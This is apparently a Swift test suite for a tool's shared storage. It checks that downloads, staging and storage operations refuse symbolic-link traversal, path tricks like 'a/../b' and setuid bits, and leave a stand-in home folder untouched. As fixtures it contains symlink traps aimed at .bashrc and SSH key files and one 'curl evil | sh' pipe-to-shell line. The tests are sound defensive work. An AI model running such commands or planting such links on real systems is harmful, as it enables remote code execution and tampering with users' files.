import DstackModel
import DstackStorage
import Foundation
import Testing
#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif

/// A shared storage is written by a whole team and a staging folder by a runner: neither may make dstack write,
/// read, move or change anything outside the folder it works in (issue 16, points 1, 2 and 8).
@Suite("Hostile storage and staging") struct HostileStorageTests {
    /// A temporary folder holding a storage, a download target and an "outside" folder standing for `$HOME`.
    struct Box {
        let url: URL
        let storage: DirectoryStorage
        var store: RunStore { RunStore(storage: storage, project: "proj") }
        var root: URL { url.appendingPathComponent("storage") }
        var outside: URL { url.appendingPathComponent("home") }
        var target: URL { url.appendingPathComponent("download") }

        init() throws {
            url = FileManager.default.temporaryDirectory.appendingPathComponent("dstack-hostile-\(UUID().uuidString.prefix(8))")
            storage = try DirectoryStorage(root: url.appendingPathComponent("storage"))
            try FileManager.default.createDirectory(at: url.appendingPathComponent("home"), withIntermediateDirectories: true)
            try Data("# my shell\n".utf8).write(to: url.appendingPathComponent("home/.bashrc"))
            chmod(url.appendingPathComponent("home/.bashrc").path, 0o600)
        }

        /// Everything under "outside", with contents, to show it did not change.
        func outsideState() throws -> [String: Data] {
            var out: [String: Data] = [:]
            for name in (try? FileManager.default.subpathsOfDirectory(atPath: outside.path)) ?? [] {
                out[name] = (try? Data(contentsOf: outside.appendingPathComponent(name))) ?? Data()
            }
            return out
        }

        func link(_ path: URL, to target: String) throws {
            try FileManager.default.createDirectory(at: path.deletingLastPathComponent(), withIntermediateDirectories: true)
            try FileManager.default.createSymbolicLink(atPath: path.path, withDestinationPath: target)
        }

        /// Writes a manifest and its files into storage as a teammate (or an attacker) could.
        func plant(_ manifest: ArtifactManifest, files: [String: String] = [:]) async throws {
            for (path, text) in files {
                try await storage.write("proj/artifacts/\(manifest.cacheKey)/files/\(path)", data: Data(text.utf8))
            }
            try await storage.write("proj/artifacts/\(manifest.cacheKey)/manifest.json", data: try RecordCoding.encoder().encode(manifest))
        }

        func remove() { try? FileManager.default.removeItem(at: url) }
    }

    static func manifest(_ key: String, paths: [String], _ files: [ArtifactFile]) -> ArtifactManifest {
        ArtifactManifest(cacheKey: key, run: "r", job: "j", paths: paths, files: files, createdAt: Date())
    }

    static func mode(_ url: URL) -> Int {
        var info = stat()
        return lstat(url.path, &info) == 0 ? Int(info.st_mode) & 0o7777 : -1
    }

    static func isLink(_ url: URL) -> Bool {
        var info = stat()
        return lstat(url.path, &info) == 0 && info.st_mode & S_IFMT == S_IFLNK
    }

    /// Expects `StorageError.refused`; returns its message.
    @discardableResult
    static func refused(sourceLocation: SourceLocation = #_sourceLocation, _ body: () async throws -> Void) async -> String {
        do {
            try await body()
            Issue.record("expected StorageError.refused, it succeeded", sourceLocation: sourceLocation)
        } catch StorageError.refused(let why) {
            return why
        } catch {
            Issue.record("expected StorageError.refused, got \(error)", sourceLocation: sourceLocation)
        }
        return ""
    }

    // MARK: Point 1: downloads and dependency staging stay inside their folder

    @Test func aLinkChainSpreadOverTwoManifestsCannotCarryAFileOutside() async throws {
        let box = try Box()
        defer { box.remove() }
        // Manifest A: a/self -> "." and a/up -> "self/self/../.." (by its text, inside a/); manifest B: the file
        // a/up/x. Placed one after the other, x would land in the folder above the target.
        let a = Self.manifest("ka", paths: ["a"], [
            ArtifactFile(path: "a", size: 0, mode: 0o755, isDirectory: true),
            ArtifactFile(path: "a/self", size: 0, mode: 0o777, link: "."),
            ArtifactFile(path: "a/up", size: 0, mode: 0o777, link: "self/self/../.."),
        ])
        let b = Self.manifest("kb", paths: ["a"], [ArtifactFile(path: "a/up/x", size: 4, mode: 0o644)])
        try await box.plant(a)
        try await box.plant(b, files: ["a/up/x": "evil"])
        let why = await Self.refused { try await box.store.downloadArtifacts([a, b], into: box.target) }
        #expect(why.contains("a/up"), "\(why)")
        await Self.refused { try await box.store.downloadArtifacts(a, into: box.target) }
        // B alone is harmless: its file lands in a real folder a/up/ inside the target.
        try await box.store.downloadArtifacts(b, into: box.target)
        #expect(try String(contentsOf: box.target.appendingPathComponent("a/up/x"), encoding: .utf8) == "evil")
        #expect(!FileManager.default.fileExists(atPath: box.url.appendingPathComponent("x").path))
        #expect(!FileManager.default.fileExists(atPath: box.target.appendingPathComponent("x").path))
    }

    @Test func aLinkAlreadyInTheTargetFolderIsNeverWrittenThrough() async throws {
        let box = try Box()
        defer { box.remove() }
        let before = try box.outsideState()
        // Left by an earlier download, or by a job: target/a -> the user's home folder.
        try box.link(box.target.appendingPathComponent("a"), to: box.outside.path)
        let m = Self.manifest("k", paths: ["a"], [ArtifactFile(path: "a/.bashrc", size: 4, mode: 0o644)])
        try await box.plant(m, files: ["a/.bashrc": "evil"])
        let why = await Self.refused { try await box.store.downloadArtifacts(m, into: box.target) }
        #expect(why.contains("is a symbolic link"), "\(why)")
        #expect(try box.outsideState() == before)
    }

    @Test func aFileIsPlacedInsteadOfALinkAndNoModeIsChangedThroughIt() async throws {
        let box = try Box()
        defer { box.remove() }
        let victim = box.outside.appendingPathComponent(".bashrc")
        try box.link(box.target.appendingPathComponent("out/run.sh"), to: victim.path)
        let m = Self.manifest("k", paths: ["out"], [ArtifactFile(path: "out/run.sh", size: 5, mode: 0o777)])
        try await box.plant(m, files: ["out/run.sh": "echo\n"])
        try await box.store.downloadArtifacts(m, into: box.target)
        #expect(Self.mode(victim) == 0o600, "the link's target was chmod'ed")
        #expect(try String(contentsOf: victim, encoding: .utf8) == "# my shell\n")
        #expect(!Self.isLink(box.target.appendingPathComponent("out/run.sh")))
        #expect(try String(contentsOf: box.target.appendingPathComponent("out/run.sh"), encoding: .utf8) == "echo\n")
        #expect(Self.mode(box.target.appendingPathComponent("out/run.sh")) == 0o777)
    }

    @Test func aFolderEntryWhosePlaceIsALinkIsRefusedAndTheLinkedFolderKeepsItsMode() async throws {
        let box = try Box()
        defer { box.remove() }
        chmod(box.outside.path, 0o700)
        try box.link(box.target.appendingPathComponent("out"), to: box.outside.path)
        let m = Self.manifest("k", paths: ["out"], [ArtifactFile(path: "out", size: 0, mode: 0o777, isDirectory: true)])
        try await box.plant(m)
        await Self.refused { try await box.store.downloadArtifacts(m, into: box.target) }
        #expect(Self.mode(box.outside) == 0o700, "the home folder was made world-writable through the link")
    }

    @Test func setuidAndSetgidBitsAreDroppedOnPlacing() async throws {
        let box = try Box()
        defer { box.remove() }
        let m = Self.manifest("k", paths: ["bin"], [
            ArtifactFile(path: "bin", size: 0, mode: 0o2775, isDirectory: true),
            ArtifactFile(path: "bin/tool", size: 3, mode: 0o4755),
            ArtifactFile(path: "bin/other", size: 3, mode: 0o2750),
        ])
        try await box.plant(m, files: ["bin/tool": "one", "bin/other": "two"])
        try await box.store.downloadArtifacts(m, into: box.target)
        #expect(Self.mode(box.target.appendingPathComponent("bin/tool")) == 0o755)
        #expect(Self.mode(box.target.appendingPathComponent("bin/other")) == 0o750)
        #expect(Self.mode(box.target.appendingPathComponent("bin")) == 0o775)
        #expect((try? FileManager.default.contentsOfDirectory(atPath: box.target.path)) == ["bin"], "no temporary folder is left")
    }

    @Test(arguments: ["a/../b", "./a", "a//b", "a/./b"])
    func aManifestPathThatIsNotPlainIsRefused(_ path: String) async throws {
        let box = try Box()
        defer { box.remove() }
        let m = Self.manifest("k", paths: ["a"], [ArtifactFile(path: path, size: 1, mode: 0o644)])
        await Self.refused { try await box.store.downloadArtifacts(m, into: box.target) }
    }

    @Test func aStoredArtifactFileThatIsALinkIsNeverCopied() async throws {
        let box = try Box()
        defer { box.remove() }
        // A teammate replaced a stored file with a link to this user's secrets: placing it would copy them into a
        // job's folder and on to a runner.
        let m = Self.manifest("k", paths: ["out"], [ArtifactFile(path: "out/f", size: 11, mode: 0o644)])
        try await box.plant(m)
        try box.link(box.root.appendingPathComponent("proj/artifacts/k/files/out/f"), to: box.outside.appendingPathComponent(".bashrc").path)
        let why = await Self.refused { try await box.store.downloadArtifacts(m, into: box.target) }
        #expect(why.contains("symbolic link"), "\(why)")
        #expect(!FileManager.default.fileExists(atPath: box.target.appendingPathComponent("out/f").path))
    }

    // MARK: Point 2: a runner's staging folder is scanned without following links

    @Test func anArtifactFolderThatIsALinkIsRefusedAndNothingIsMoved() async throws {
        let box = try Box()
        defer { box.remove() }
        try Data("secret".utf8).write(to: box.outside.appendingPathComponent("id_ed25519"))
        let before = try box.outsideState()
        // A hostile runner's tar stream: the artifact folder 'out' is a link to the user's home.
        let staging = box.url.appendingPathComponent("staging")
        try box.link(staging.appendingPathComponent("out"), to: box.outside.path)
        let why = await Self.refused {
            _ = try await ArtifactStaging.$disposableFolder.withValue(staging) {
                try await box.store.storeArtifacts(cacheKey: "k", run: "r", job: "j", paths: ["out"], from: staging)
            }
        }
        #expect(why == "artifact 'out' is itself a symbolic link (-> '\(box.outside.path)'); artifacts are read without following links, so store the real folder or file instead")
        #expect(try box.outsideState() == before, "files were moved out of the home folder")
        #expect(try await box.storage.list(prefix: "proj/artifacts/").isEmpty)
    }

    @Test func anArtifactBelowALinkIsRefusedAndNothingIsMoved() async throws {
        let box = try Box()
        defer { box.remove() }
        try FileManager.default.createDirectory(at: box.outside.appendingPathComponent("out"), withIntermediateDirectories: true)
        try Data("secret".utf8).write(to: box.outside.appendingPathComponent("out/id_ed25519"))
        let before = try box.outsideState()
        let staging = box.url.appendingPathComponent("staging")
        try box.link(staging.appendingPathComponent("build"), to: box.outside.path)
        let why = await Self.refused {
            _ = try await ArtifactStaging.$disposableFolder.withValue(staging) {
                try await box.store.storeArtifacts(cacheKey: "k", run: "r", job: "j", paths: ["build/out"], from: staging)
            }
        }
        #expect(why.hasPrefix("artifact 'build/out' lies below a symbolic link"), "\(why)")
        #expect(try box.outsideState() == before)
    }

    // MARK: Point 8: a directory storage follows no planted links

    @Test func aPlantedLogLinkIsNotAppendedThrough() async throws {
        let box = try Box()
        defer { box.remove() }
        let before = try box.outsideState()
        try box.link(box.root.appendingPathComponent("proj/runs/r/jobs/train/log"), to: box.outside.appendingPathComponent(".bashrc").path)
        let why = await Self.refused { try await box.store.appendLog(run: "r", workflow: "train", Data("curl evil | sh\n".utf8)) }
        #expect(why.contains("proj/runs/r/jobs/train/log"), "\(why)")
        #expect(try box.outsideState() == before)
        #expect(Self.mode(box.outside.appendingPathComponent(".bashrc")) == 0o600)
    }

    @Test func aPlantedFolderLinkIsNotWrittenReadNorDeletedThrough() async throws {
        let box = try Box()
        defer { box.remove() }
        try box.link(box.root.appendingPathComponent("proj/runs/r"), to: box.outside.path)
        try Data("{}".utf8).write(to: box.outside.appendingPathComponent("run.json"))
        let before = try box.outsideState()
        await Self.refused { try await box.storage.write("proj/runs/r/run.json", data: Data("x".utf8)) }
        await Self.refused { _ = try await box.storage.create("proj/runs/r/claim", data: Data("x".utf8)) }
        await Self.refused { _ = try await box.storage.read("proj/runs/r/.bashrc") }
        await Self.refused { try await box.storage.delete("proj/runs/r/run.json") }
        await Self.refused { try await box.storage.download("proj/runs/r/.bashrc", to: box.url.appendingPathComponent("copy")) }
        let file = box.url.appendingPathComponent("upload")
        try Data("u".utf8).write(to: file)
        await Self.refused { try await box.storage.upload(from: file, to: "proj/runs/r/uploaded") }
        #expect(try box.outsideState() == before)
        // Listings neither show nor walk into links.
        #expect(try await box.storage.list(prefix: "proj/").isEmpty)
        #expect(try await box.storage.listChildren(prefix: "proj/runs/").isEmpty)
        // Deleting a run whose folder is a link removes the link, not what it points to.
        try await box.storage.deleteAll(prefix: "proj/runs/r/")
        #expect(try box.outsideState() == before)
        #expect(!Self.isLink(box.root.appendingPathComponent("proj/runs/r")))
    }

    @Test func aLinkInsideADeletedTreeIsRemovedNotFollowed() async throws {
        let box = try Box()
        defer { box.remove() }
        try await box.storage.write("proj/artifacts/k/files/a", data: Data("a".utf8))
        try box.link(box.root.appendingPathComponent("proj/artifacts/k/files/home"), to: box.outside.path)
        let before = try box.outsideState()
        try await box.store.deleteArtifacts("k")
        #expect(try box.outsideState() == before)
        #expect(!FileManager.default.fileExists(atPath: box.root.appendingPathComponent("proj/artifacts/k").path))
    }
}
